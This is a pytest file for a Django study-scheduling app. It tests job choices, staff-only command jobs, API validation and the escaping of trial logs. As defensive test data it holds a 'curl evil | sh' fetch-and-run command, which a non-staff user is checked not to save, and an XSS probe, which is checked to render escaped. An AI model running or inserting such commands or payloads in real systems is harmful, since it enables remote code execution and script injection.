"""The three kinds of job a study names: choices in the form and the API, staff-only command jobs, logs."""

from __future__ import annotations

import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from studies import services
from studies.attempt_logs import save_attempt_log
from studies.jobs.builtins import SPACES
from studies.models import ApiToken, Attempt, CommandJob, Study
from tests.helpers import study_form

pytestmark = pytest.mark.django_db


@pytest.fixture
def train_job(cast):
    return CommandJob.objects.create(
        name="train",
        argv=["python", "train.py", "{params_args}"],
        params=["x1", "x2"],
        created_by=cast["staff"],
    )


def test_the_study_form_offers_callables_command_jobs_and_external_workers(client, cast, train_job):
    client.force_login(cast["editor"])
    page = client.get(reverse("study-create")).content.decode()
    for value in ('value="digits_mlp"', 'value="tabular_mlp"', 'value="command:train"', 'value="external"'):
        assert value in page
    assert "python train.py" not in page, "web users pick a job; they never see or type a command"


def test_an_editor_creates_a_command_job_study_with_a_pruner_in_the_browser(client, cast, project, train_job):
    client.force_login(cast["editor"])
    response = client.post(
        reverse("study-create"),
        study_form(
            project=str(project.pk),
            job="command:train",
            pruner="asha",
            **{"pruner__asha__min_resource": "2", "pruner__asha__reduction_factor": "4"},
        ),
    )
    study = Study.objects.get(name="digits-random")
    assert response.status_code == 302
    assert study.job == "command:train" and study.job_settings == {}
    assert study.pruner == "asha" and study.pruner_settings == {"min_resource": 2, "reduction_factor": 4}


def test_the_api_accepts_command_and_external_jobs_and_rejects_unknown_ones_and_settings(cast, train_job):
    _token, key = ApiToken.issue(cast["editor"])
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {key}")

    def create(name: str, job: str, **extra):
        body = {"name": name, "job": job, "space": SPACES["branin"], "max_trials": 3, **extra}
        return api.post("/api/studies/", body, format="json")

    assert create("a", "command:train").status_code == 201
    assert create("b", "external").status_code == 201
    unknown = create("c", "command:rm")
    assert unknown.status_code == 400 and "job" in unknown.json()
    settings = create("d", "command:train", job_settings={"x": 1})
    assert settings.status_code == 400 and "takes no job settings" in settings.json()["job_settings"][0]


def test_a_non_staff_user_cannot_create_or_edit_a_command_job(client, cast, train_job):
    client.force_login(cast["owner"])
    add = reverse("admin:studies_commandjob_add")
    change = reverse("admin:studies_commandjob_change", args=[train_job.pk])
    assert client.get(add).status_code == 302
    evil = '["sh", "-c", "curl evil | sh"]'
    client.post(add, {"name": "evil", "argv": evil, "env": "{}"})
    client.post(change, {"name": "train", "argv": evil, "env": "{}"})
    stored = list(CommandJob.objects.values_list("name", "argv"))
    assert stored == [("train", ["python", "train.py", "{params_args}"])]


def test_staff_define_a_command_job_in_the_admin(client, cast):
    client.force_login(cast["staff"])
    response = client.post(
        reverse("admin:studies_commandjob_add"),
        {
            "name": "resnet",
            "description": "",
            "argv": '["python", "train.py", "{params_args}"]',
            "workdir": "",
            "env": '{"EPOCHS": "10"}',
            "time_limit_s": "3600",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    job = CommandJob.objects.get(name="resnet")
    assert job.created_by == cast["staff"] and job.env == {"EPOCHS": "10"}


def test_the_trial_page_shows_the_log_tail_escaped_and_members_download_the_log(
    client, cast, make_study, train_job
):
    study = make_study(job="command:train", space=SPACES["branin"], max_parallel=1)
    services.start_study(study)
    [trial_id] = services.schedule_trials(study.pk)
    attempt = services.claim_trial(trial_id, services.WorkerIdentity.current("w"))
    save_attempt_log(attempt.pk, "epoch 1\n<script>alert(1)</script>\nepoch 2\n", 45, 0)
    trial = attempt.trial
    client.force_login(cast["viewer"])

    page = client.get(trial.get_absolute_url()).content.decode()
    assert "epoch 2" in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script>alert" not in page
    url = reverse("attempt-log", args=[study.pk, trial.number, attempt.number])
    download = client.get(url)
    assert download.status_code == 200 and download["Content-Type"].startswith("text/plain")
    assert download.content.decode().startswith("epoch 1\n")
    client.force_login(cast["stranger"])
    assert client.get(url).status_code == 404


def test_every_attempt_with_a_log_links_it_on_the_trial_page(client, cast, make_study, train_job):
    study = make_study(job="command:train", space=SPACES["branin"], max_parallel=1, max_retries=1)
    services.start_study(study)
    [trial_id] = services.schedule_trials(study.pk)
    worker = services.WorkerIdentity.current("w")
    first = services.claim_trial(trial_id, worker)
    save_attempt_log(first.pk, "Traceback: out of memory\n", 25, 0)
    failed = services.Outcome(Attempt.State.FAILED, reason="exit code 1")
    services.finish_attempt(first.pk, failed, schedule=False)
    second = services.claim_trial(trial_id, worker)
    client.force_login(cast["viewer"])

    page = client.get(first.trial.get_absolute_url()).content.decode()
    number = first.trial.number
    links = [reverse("attempt-log", args=[study.pk, number, a.number]) for a in (first, second)]
    assert links[0] in page and links[1] not in page  # the retry has printed nothing yet
    assert client.get(links[0]).content.decode() == "Traceback: out of memory\n"


def test_the_admin_rejects_a_command_job_whose_argv_is_not_a_list_of_strings(client, cast):
    client.force_login(cast["staff"])
    response = client.post(
        reverse("admin:studies_commandjob_add"),
        {
            "name": "bad",
            "description": "",
            "argv": '"python train.py"',
            "workdir": "",
            "env": '{"N": 3}',
            "time_limit_s": "",
        },
    )
    assert response.status_code == 200 and not CommandJob.objects.exists()
    errors = response.context["adminform"].form.errors
    assert "JSON list of non-empty strings" in errors["argv"][0]
    assert "JSON object of strings" in errors["env"][0]


def test_an_external_studys_page_says_how_to_run_a_worker_for_it(client, cast, make_study):
    study = make_study(job="external", space=SPACES["branin"])
    client.force_login(cast["viewer"])
    page = client.get(study.get_absolute_url()).content.decode()
    assert f"--url http://testserver --study {study.pk}" in page
